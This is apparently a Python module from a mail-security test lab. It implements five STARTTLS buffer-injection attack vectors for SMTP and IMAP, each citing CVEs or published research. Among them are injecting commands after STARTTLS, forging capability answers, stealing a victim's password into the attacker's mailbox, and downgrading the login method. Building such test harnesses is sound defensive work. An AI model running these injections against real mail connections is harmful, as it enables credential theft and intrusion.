"""Attacks on the buffer, B1 to B5: what was said in clear text crosses into TLS, because an end has kept it.

Both ends of the TLS are genuine, so no certificate helps. RFC 3207 §4.2, RFC 9051 §6.2.1 and RFC 2595 §4 say what to
forget.
"""

from typing import ClassVar

from labkit.attacks import speech
from labkit.attacks.account import ACCOUNT, NAME, PASSWORD
from labkit.attacks.actions import Begin, Replace
from labkit.attacks.vector import Answered, Line, Opening, Vector
from labkit.dialects.writing import Capabilities

MARK = "X-MALLORY"
"""A capability that no server has: a client that takes it for offered has believed the attacker."""
_KEEPS_BUFFER = {"quirks": ("keeps the buffer",)}


class CommandInjection(Vector):
    """Puts a command after STARTTLS, in the same segment: a server that keeps its buffer runs it inside TLS."""

    id = "B1"
    source = "CVE-2011-0411 (Postfix), CVE-2024-34083 (aiosmtpd)"
    server: ClassVar = _KEEPS_BUFFER
    needs = ("injected",)
    injects = True

    def on_line(self, line: Line) -> Answered:
        if not speech.upgrades(line):
            return None
        writes = line.dialect.writes
        return Replace(line.data + writes.command(writes.injected.command, NAME))


class ResponseInjection(Vector):
    """Puts an answer after the go-ahead: a client that keeps its buffer believes it came inside TLS."""

    id = "B2"
    source = "CVE-2020-14954 (Mutt), CVE-2021-22947 (curl)"
    needs = ("capabilities",)
    marks = (MARK,)

    def on_line(self, line: Line) -> Answered:
        if line.kind != "go-ahead":
            return None
        answer = line.dialect.writes.capabilities.answer(self.offered(line), speech.next_tag(line))
        return Replace(line.data + answer)

    def offered(self, line: Line) -> Capabilities:
        """What the injected answer offers."""
        return (MARK,)


class StealByInjection(Vector):
    """Logs in as the attacker and begins a message, all after STARTTLS: what the victim then says inside TLS, with its
    password, becomes that message, and lies in the attacker's mailbox.

    In SMTP each injected command earns just the reply that the victim waits for. In IMAP the size of the message has to
    be known before: `login` is how many bytes the victim's name, a space and its password have; an attacker tries.
    """

    id = "B3"
    needs = ("steal",)
    steals = True
    source = "Poddebniak et al., USENIX Security 2021, §5"
    server: ClassVar = _KEEPS_BUFFER

    def __init__(self, login: int = len('alice "hunter2"')) -> None:
        self.login = login

    def on_line(self, line: Line) -> Answered:
        if not speech.upgrades(line):
            return None
        writes = line.dialect.writes
        return Replace(line.data + writes.steal(writes.tag(line.data), ACCOUNT, self.login))


class HostHTTPS(Vector):
    """Brings a browser that means port 443 to the mail server, starts TLS for it there, and lets the server read the
    attacker's last mail to it: her page, under the server's own certificate.

    The answers of IMAP stand before the page, so only a browser that takes an answer without a status line (HTTP/0.9)
    shows it; ``curl --http0.9`` does.
    """

    id = "B4"
    protocols = ("IMAP",)
    source = "Poddebniak et al., USENIX Security 2021, §5"
    facade = 443
    server: ClassVar = _KEEPS_BUFFER
    marks = (MARK,)  # as it stands in a mail that lies in her inbox

    def on_open(self, opening: Opening) -> Answered:
        commands = ("STARTTLS", f"LOGIN {NAME} {PASSWORD}", "EXAMINE INBOX", "FETCH * BODY[TEXT]")
        return Begin(b"".join(opening.dialect.writes.command(text, NAME) for text in commands))


class WeakerLogin(ResponseInjection):
    """Injects an answer that offers a weaker way to log in than the server does, and the client takes it inside TLS."""

    id = "B5"
    source = "GHSA-9j88-vvj5-vhgr (MailKit)"
    needs = ("capabilities", "weaker_login")

    def offered(self, line: Line) -> Capabilities:
        return (*line.dialect.writes.weaker_login, MARK)
